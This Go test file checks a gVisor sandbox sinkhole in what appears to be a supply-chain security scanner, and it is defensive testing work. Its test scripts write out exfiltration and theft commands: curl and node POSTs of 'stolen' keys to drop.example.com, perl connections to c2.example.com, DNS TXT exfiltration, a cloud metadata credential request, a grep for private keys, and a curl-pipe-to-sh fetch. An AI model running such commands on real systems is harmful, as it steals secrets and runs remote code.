package gvisor_test

import (
	"encoding/base64"
	"fmt"
	"net"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/falconer-sec/falconer/pkg/falco"
	"github.com/falconer-sec/falconer/pkg/sandbox"
	"github.com/falconer-sec/falconer/pkg/sandbox/gvisor"
	"github.com/falconer-sec/falconer/pkg/scan"
)

// sink runs a script in a sandbox that has a sinkhole.
func sink(t *testing.T, script string) (sandbox.Report, []falco.Alert) {
	t.Helper()
	d, err := gvisor.New(gvisor.Config{Program: program, Rules: load(t, testRules), Sinkhole: true, TempDir: t.TempDir(), DebugDir: os.Getenv("FALCONER_TEST_GVISOR_LOGS")})
	if err != nil {
		t.Fatal(err)
	}
	m := shell{script}
	p, _ := m.Load(nil, ".")
	var log alertLog
	r, err := d.Run(t.Context(), sandbox.Spec{ScanID: scan.Key{Project: t.Name()}.ID(), Dir: t.TempDir(), Project: p, Manager: m}, &log)
	if err != nil {
		t.Fatal(err)
	}
	return r, log.alerts
}

// said lists what the alerts show of conversations, a line each.
func said(alerts []falco.Alert) string {
	var b strings.Builder
	for _, a := range alerts {
		if a.Field(falco.FieldNetProtocol) == "" {
			continue
		}
		body, _ := base64.StdEncoding.DecodeString(a.Field(falco.FieldNetFirstBytes))
		fmt.Fprintf(&b, "%s to %s (%s) by %s: %s sni=%s refused=%s sent=%s %q %q\n", a.Field("evt.type"), a.Field("fd.name"), a.Field(falco.FieldNetName), a.Field("proc.cmdline"),
			a.Field(falco.FieldNetRequest), a.Field(falco.FieldNetSNI), a.Field(falco.FieldNetRefused), a.Field(falco.FieldNetSent), body, a.List(falco.FieldNetHeaders))
	}
	return b.String()
}

// TestSinkhole does what an install script could do and expects the alerts of
// each call to show what was said.
func TestSinkhole(t *testing.T) {
	for _, tt := range []struct {
		name, script string
		log, said    []string
	}{
		{"a request", `curl -s http://drop.example.com/up -H 'X-Token: t' -d stolen=key`,
			[]string{`{"ok":true}`},
			[]string{`connect to 172.17.0.1:53 (drop.example.com)`, `(drop.example.com) by curl -s http`, `: POST http://drop.example.com/up sni= refused= sent=`, `"stolen=key" ["Host: drop.example.com"`, `"X-Token: t"`}},
		{"TLS", `node -e 'fetch("https://drop.example.com/k", {method: "POST", body: process.argv[1]}).then(async r => console.log("answered", r.status, await r.text()))' stolen-key`,
			[]string{`answered 200 {"ok":true}`},
			[]string{`:443 (drop.example.com) by node -e`, `POST https://drop.example.com/k sni=drop.example.com`, `"stolen-key"`}},
		{"TLS by OpenSSL's store", `curl -s https://tls.example.com/a.txt && echo trusted`, []string{"trusted"}, []string{"GET https://tls.example.com/a.txt"}},
		{"another authority", `node -e '
			require("https").get("https://pinned.example.com/", {ca: [require("tls").rootCertificates[0]]}, () => console.log("taken")).on("error", e => console.log("not taken", e.code))'`,
			[]string{"not taken"}, []string{`sni=pinned.example.com refused=hung up at the sight of the certificate`}},
		{"a connection of its own protocol", `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("c2.example.com:4444"); print $s "id=7 key=stolen\n"; $s->shutdown(1); <$s>'`,
			nil, []string{`:4444 (c2.example.com) by perl`, `"id=7 key=stolen\n"`}},
		{"the last thing that is done", `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("c2.example.com:4444"); print $s "last words\n"; kill 9, $$'`,
			nil, []string{`"last words\n"`}},
		{"a datagram", `perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); send(S, "beacon", 0, sockaddr_in(9999, inet_aton("8.8.8.8")))'`,
			nil, []string{`sendto to 8.8.8.8:9999 () by perl`, `"beacon"`}},
		{"names", `node -e 'require("dns").resolveTxt("c3RvbGVu.x.example.com", (e, r) => console.log(e || r))'; getent hosts a.example.com`,
			[]string{"v=spf1 -all", "198.18.4.11"}, []string{`(c3rvbgvu.x.example.com) by node`, `TXT c3rvbgvu.x.example.com`, `A a.example.com`}},
		{"the metadata service", `curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/`, []string{"build-runner"}, []string{`connect to 169.254.169.254:80`, `GET http://169.254.169.254/latest/meta-data/iam/security-credentials/`}},
		{"IPv6", `curl -s -g 'http://[2001:db8::7]:8080/six.json'; perl -MSocket=:all -e 'socket(S, PF_INET6, SOCK_DGRAM, 0); send(S, "six", 0, pack_sockaddr_in6(99, inet_pton(AF_INET6, "2001:db8::8")))'`,
			[]string{"{}"}, []string{`connect to [2001:db8::7]:8080`, `GET http://[2001:db8::7]:8080/six.json`, `sendto to [2001:db8::8]:99`, `"six"`}},
		{"a large datagram", `perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); send(S, "y" x 9000, 0, sockaddr_in(9999, inet_aton("8.8.8.8")))'`,
			nil, []string{`sent=9000`}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r, alerts := sink(t, tt.script+"; true")
			expect(t, "output", r.Log, tt.log...)
			expect(t, "what was said", said(alerts), tt.said...)
			if len(r.Incomplete) > 0 || r.SensorDropped != 0 {
				t.Errorf("incomplete: %q, dropped %d", r.Incomplete, r.SensorDropped)
			}
		})
	}
}

// TestSinkholeIsNobodysNeighbour expects the loopback to be as it was, and the
// authority's key to be nowhere.
func TestSinkholeIsNobodysNeighbour(t *testing.T) {
	r, _ := sink(t, `node -e '
const net = require("net");
const to = (port, host) => new Promise(r => net.connect(port, host).on("connect", () => r("connected")).on("error", e => r(e.code)));
(async () => {
  for (const host of ["127.0.0.1", "::1", "172.17.0.3"]) console.log(host, await to(81, host));
  const own = net.createServer(c => c.end("own")).listen(0, "0.0.0.0", async () => {
    console.log("own listener:", await new Promise(r => net.connect(own.address().port, "127.0.0.1").on("data", d => r(String(d)))));
    console.log("elsewhere:", await to(own.address().port, "203.0.113.5"));
    process.exit();
  });
})();'; grep -rl "EC PRIVATE" /etc /root /tmp /builds /run /var 2>/dev/null; env | grep -c CERT`)
	expect(t, "output", r.Log, "127.0.0.1 ECONNREFUSED", "::1 ECONNREFUSED", "172.17.0.3 ECONNREFUSED", "own listener: own", "elsewhere: connected", "2\n")
	if strings.Contains(r.Log, "/etc/") {
		t.Errorf("a key lies about:\n%s", r.Log)
	}
}

// TestFlood opens more than the sinkhole holds. All of it ends, and is counted.
func TestFlood(t *testing.T) {
	r, alerts := sink(t, `node -e '
const net = require("net"), dgram = require("dgram").createSocket("udp4");
let open = 0, reset = 0, left = 600;
const over = () => { if (--left == 0) { console.log("opened", open > 100, "all", open + reset); for (let i = 0; i < 2000; i++) dgram.send("flood", 99, "8.8.4.4"); setTimeout(() => process.exit(), 500); } };
for (let i = 0; i < 600; i++) net.connect(1000 + i, "198.51.100.7").on("connect", () => { open++; over(); }).on("error", () => { reset++; over(); });'`)
	expect(t, "output", r.Log, "opened true all 600")
	if r.Sandbox.Reason != "completed" || r.SensorDropped != 0 || len(alerts) == 0 {
		t.Errorf("ended with %+v, dropped %d, %d alerts", r.Sandbox, r.SensorDropped, len(alerts))
	}
}

// TestNothingLeaves runs a sandbox in a network namespace of its own, in which
// a server waits at the addresses that the sandbox talks to: nothing arrives
// there, and no packet moves.
func TestNothingLeaves(t *testing.T) {
	inside := exec.CommandContext(t.Context(), os.Args[0], "-test.run=^TestInNamespace$", "-test.v")
	inside.Env = append(os.Environ(), programEnv+"="+program)
	inside.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET}
	if os.Geteuid() != 0 {
		inside.SysProcAttr.Cloneflags |= syscall.CLONE_NEWUSER
		inside.SysProcAttr.UidMappings = []syscall.SysProcIDMap{{HostID: os.Geteuid(), Size: 1}}
		inside.SysProcAttr.GidMappings = []syscall.SysProcIDMap{{HostID: os.Getegid(), Size: 1}}
	}
	out, err := inside.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "--- PASS: TestInNamespace") {
		t.Errorf("%v\n%s", err, out)
	}
}

func TestInNamespace(t *testing.T) {
	if os.Getenv(programEnv) == "" {
		t.Skip("part of TestNothingLeaves, which runs it in a network namespace")
	}
	const outside = "203.0.113.77"
	configure(t, "lo", unix.SIOCSIFFLAGS, func(r *unix.Ifreq) error { r.SetUint16(unix.IFF_UP | unix.IFF_LOOPBACK | unix.IFF_RUNNING); return nil })
	configure(t, "lo:1", unix.SIOCSIFADDR, func(r *unix.Ifreq) error { return r.SetInet4Addr(net.ParseIP(outside).To4()) })
	l, err := net.Listen("tcp", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	var arrived atomic.Int64
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			arrived.Add(1)
			_, _ = c.Write([]byte("HTTP/1.0 200 OK\r\n\r\nthe real one"))
			_ = c.Close()
		}
	}()
	_, port, _ := net.SplitHostPort(l.Addr().String())
	c, err := net.Dial("tcp", net.JoinHostPort(outside, port)) // it can be reached from here
	if err != nil {
		t.Fatal(err)
	}
	b := make([]byte, 64)
	if n, _ := c.Read(b); !strings.Contains(string(b[:n]), "the real one") {
		t.Fatalf("the server says %q", b[:n])
	}
	_ = c.Close()
	before := packets(t)
	r, alerts := sink(t, fmt.Sprintf(`for a in %s 127.0.0.1; do curl -s -m 20 http://$a:%s/steal.json -d key || echo refused; done; curl -s -m 20 http://%s:%s/x.sh | sh`, outside, port, outside, port))
	if strings.Contains(r.Log, "the real one") || arrived.Load() != 1 {
		t.Errorf("%d connections arrived, output:\n%s", arrived.Load()-1, r.Log)
	}
	expect(t, "output", r.Log, `{"ok":true}`, "refused")
	expect(t, "what was said", said(alerts), "POST http://"+outside+":"+port+"/steal.json")
	if after := packets(t); after != before {
		t.Errorf("packets moved:\n%s\n%s", before, after)
	}
}

// configure sets one thing of an interface of this network namespace.
func configure(t *testing.T, name string, what uint, set func(*unix.Ifreq) error) {
	t.Helper()
	s, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(s)
	r, err := unix.NewIfreq(name)
	if err == nil {
		err = set(r)
	}
	if err == nil {
		err = unix.IoctlIfreq(s, what, r)
	}
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
}

// packets is what this network namespace has sent and received.
func packets(t *testing.T) string {
	t.Helper()
	b, err := os.ReadFile("/proc/self/net/dev")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
